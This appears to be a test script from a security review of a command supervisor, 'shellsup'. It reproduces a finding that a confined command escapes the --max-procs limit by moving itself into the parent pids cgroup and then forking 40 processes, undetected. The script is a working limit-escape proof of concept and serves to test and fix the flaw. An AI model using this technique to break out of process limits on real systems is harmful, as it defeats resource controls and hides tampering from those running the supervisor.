#!/bin/bash
# Review 2026-12-02, finding 1: a same-uid command escapes --max-procs by moving
# itself out of its leaf into the parent cgroup (which its uid owns); shellsup
# reports a clean run, no `tampered`.
# Usage (as root, from the worktree): timeout 60 testdata/review/limit-escape-by-migration.sh [root|nobody]
# root:   the default tier of a root harness (v1 pids leaf under the root pids cgroup).
# nobody: a nobody shellsup started in a v1 pids cgroup delegated to nobody.
set -u
BIN=${SHELLSUP_BIN:-$PWD/bin/shellsup}
WHO=${1:-nobody}
CMD='P=$(grep pids: /proc/self/cgroup|cut -d: -f3)
echo leaf=$P pids.max=$(cat /sys/fs/cgroup/pids$P/pids.max)
echo $$ > /sys/fs/cgroup/pids$(dirname $P)/cgroup.procs && echo moved-to=$(grep pids: /proc/self/cgroup)
for i in $(seq 1 40); do sleep 30 & done
echo alive=$(( $(jobs -p | wc -l) + 1 ))'
if [ "$WHO" = root ]; then
  HOME=/nonexistent timeout 30 "$BIN" --max-procs 20 -- "$CMD"; echo "rc=$?"
else
  D=/sys/fs/cgroup/pids/review-deleg
  mkdir -p $D && chown nobody:nogroup $D $D/cgroup.procs $D/tasks
  timeout 30 bash -c 'echo $$ > '$D'/cgroup.procs; cd /tmp; HOME=/nonexistent exec setpriv --reuid nobody --regid nogroup --clear-groups "$0" --max-procs 20 -- "$1"' "$BIN" "$CMD"; echo "rc=$?"
  rmdir $D
fi
